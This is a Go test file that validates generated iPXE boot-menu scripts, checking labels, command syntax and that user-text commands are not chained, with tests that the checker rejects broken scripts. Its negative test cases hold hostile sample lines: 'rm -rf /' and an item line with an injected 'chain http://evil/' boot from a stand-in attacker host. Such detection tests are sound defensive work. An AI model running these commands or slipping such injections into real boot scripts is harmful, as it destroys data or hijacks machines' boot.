package menu

import (
	"fmt"
	"strings"
	"testing"
)

// ipxeCommands are the commands generated scripts use (and the test
// scripts' raw entries). Anything else on a command line means text leaked
// out of its place.
var ipxeCommands = map[string]bool{
	"menu": true, "item": true, "choose": true, "goto": true,
	"kernel": true, "initrd": true, "imgargs": true, "boot": true, "chain": true, "sanboot": true,
	"exit": true, "echo": true, "sleep": true, "iseq": true, "isset": true, "set": true,
	"prompt": true, "shell": true, "imgfree": true,
}

// ipxeCheck parses a script the way iPXE does (src/image/script.c,
// src/core/exec.c) and checks that it is well formed: the magic first line;
// every command line made of known commands joined by "||", "&&" or ";";
// label lines holding only a label, each defined once; every goto,
// choose --default and item target defined as a label (except
// ${selected}); item, menu and echo (the commands carrying user text)
// alone on their line; well-formed ${...} references; no NUL, carriage return or
// continuation backslash.
func ipxeCheck(script []byte) error {
	s := string(script)
	switch {
	case strings.ContainsRune(s, 0):
		return fmt.Errorf("script contains NUL")
	case strings.ContainsRune(s, '\r'):
		return fmt.Errorf("script contains a carriage return")
	case !strings.HasSuffix(s, "\n"):
		return fmt.Errorf("script does not end with a newline")
	}
	lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
	if lines[0] != "#!ipxe" {
		return fmt.Errorf("first line is %q, not #!ipxe", lines[0])
	}
	labels := map[string]int{}
	type ref struct {
		line         int
		what, target string
	}
	var refs []ref
	for n, line := range lines[1:] {
		n += 2
		trimmed := strings.TrimSpace(line)
		if trimmed == "" || strings.HasPrefix(trimmed, "#") {
			continue
		}
		if strings.HasSuffix(line, `\`) {
			return fmt.Errorf("line %d ends with a backslash (continuation): %q", n, line)
		}
		if p := settingRefProblem(line); p != "" {
			return fmt.Errorf("line %d: %s: %q", n, p, line)
		}
		if label, ok := strings.CutPrefix(trimmed, ":"); ok {
			if label == "" || strings.ContainsAny(label, " \t") {
				return fmt.Errorf("line %d: a label line must hold only the label: %q", n, line)
			}
			if prev, dup := labels[label]; dup {
				return fmt.Errorf("line %d: label %q already defined on line %d", n, label, prev)
			}
			labels[label] = n
			continue
		}
		var cmds [][]string
		var cur []string
		for _, w := range strings.Fields(trimmed) {
			if strings.HasPrefix(w, "#") {
				return fmt.Errorf("line %d: a word starts a comment mid-line: %q", n, line)
			}
			if w == "||" || w == "&&" || w == ";" {
				if len(cur) == 0 {
					return fmt.Errorf("line %d: empty command before %q: %q", n, w, line)
				}
				cmds, cur = append(cmds, cur), nil
				continue
			}
			cur = append(cur, w)
		}
		if len(cur) == 0 {
			return fmt.Errorf("line %d: ends with a command separator: %q", n, line)
		}
		cmds = append(cmds, cur)
		for _, c := range cmds {
			// Display commands carry user text; the generated scripts never
			// chain them, so another command on their line was injected.
			if len(cmds) > 1 && (c[0] == "item" || c[0] == "menu" || c[0] == "echo") {
				return fmt.Errorf("line %d: %s shares its line with another command: %q", n, c[0], line)
			}
			if !ipxeCommands[c[0]] {
				return fmt.Errorf("line %d: unknown command %q: %q", n, c[0], line)
			}
			switch c[0] {
			case "goto":
				if len(c) != 2 {
					return fmt.Errorf("line %d: goto takes one label: %q", n, line)
				}
				if c[1] != "${selected}" {
					refs = append(refs, ref{n, "goto", c[1]})
				}
			case "choose":
				for i := 1; i < len(c); i++ {
					switch c[i] {
					case "--default", "--timeout":
						if i+1 >= len(c)-1 {
							return fmt.Errorf("line %d: %s needs a value before the setting name: %q", n, c[i], line)
						}
						if c[i] == "--default" {
							refs = append(refs, ref{n, "choose --default", c[i+1]})
						}
						i++
					default:
						if i != len(c)-1 || strings.HasPrefix(c[i], "-") {
							return fmt.Errorf("line %d: choose takes one setting name after its options: %q", n, line)
						}
					}
				}
			case "item":
				if err := checkItem(c); err != nil {
					return fmt.Errorf("line %d: %v: %q", n, err, line)
				}
				if id := itemID(c); id != "" {
					refs = append(refs, ref{n, "item", id})
				}
			case "menu":
				if len(c) > 1 && strings.HasPrefix(c[1], "-") {
					return fmt.Errorf("line %d: menu title read as an option: %q", n, line)
				}
			}
		}
	}
	for _, r := range refs {
		if _, ok := labels[r.target]; !ok {
			return fmt.Errorf("line %d: %s target %q is not a label", r.line, r.what, r.target)
		}
	}
	return nil
}

// checkItem checks an item command's options as iPXE's getopt reads them.
func checkItem(c []string) error {
	for i := 1; i < len(c); i++ {
		switch c[i] {
		case "--key":
			if i+1 >= len(c) || len(c[i+1]) != 1 {
				return fmt.Errorf("--key needs one character")
			}
			i++
		case "--gap":
			if i+1 < len(c) && c[i+1] != "--" {
				return fmt.Errorf("gap text must follow \"--\"")
			}
			return nil
		default:
			if strings.HasPrefix(c[i], "-") {
				return fmt.Errorf("unexpected option %q", c[i])
			}
			return nil
		}
	}
	return nil
}

// itemID is the label a non-gap item leads to.
func itemID(c []string) string {
	for i := 1; i < len(c); i++ {
		switch c[i] {
		case "--key":
			i++
		case "--gap":
			return ""
		default:
			return c[i]
		}
	}
	return ""
}

func TestIPXECheckCatchesBrokenScripts(t *testing.T) {
	for name, script := range map[string]string{
		"no magic":          "echo hi\n",
		"unknown command":   "#!ipxe\nrm -rf /\n",
		"injected command":  "#!ipxe\nitem entry-a A && chain http://evil/\n:entry-a\n",
		"missing label":     "#!ipxe\ngoto nowhere\n",
		"missing default":   "#!ipxe\n:a\nchoose --default b selected || goto a\n",
		"item to nowhere":   "#!ipxe\nitem entry-x X\n",
		"duplicate label":   "#!ipxe\n:a\n:a\n",
		"comment mid-line":  "#!ipxe\necho a #b\n",
		"continuation":      "#!ipxe\necho a \\\n",
		"bad reference":     "#!ipxe\necho ${oops\n",
		"dangling operator": "#!ipxe\necho a ||\n",
		"NUL":               "#!ipxe\necho \x00\n",
		"label with text":   "#!ipxe\n:a echo\n",
	} {
		if err := ipxeCheck([]byte(script)); err == nil {
			t.Errorf("%s: ipxeCheck accepted %q", name, script)
		}
	}
}

// TestRenderedScriptsPassIPXECheck runs the checker on every golden
// script: every entry kind, nested and cyclic menus, hot keys, gaps, an
// EFI/BIOS split, a custom template, start.ipxe and the no-match script.
func TestRenderedScriptsPassIPXECheck(t *testing.T) {
	for _, tc := range goldenCases(t) {
		if err := ipxeCheck(tc.script); err != nil {
			t.Errorf("%s: %v\n%s", tc.name, err, tc.script)
		}
	}
}
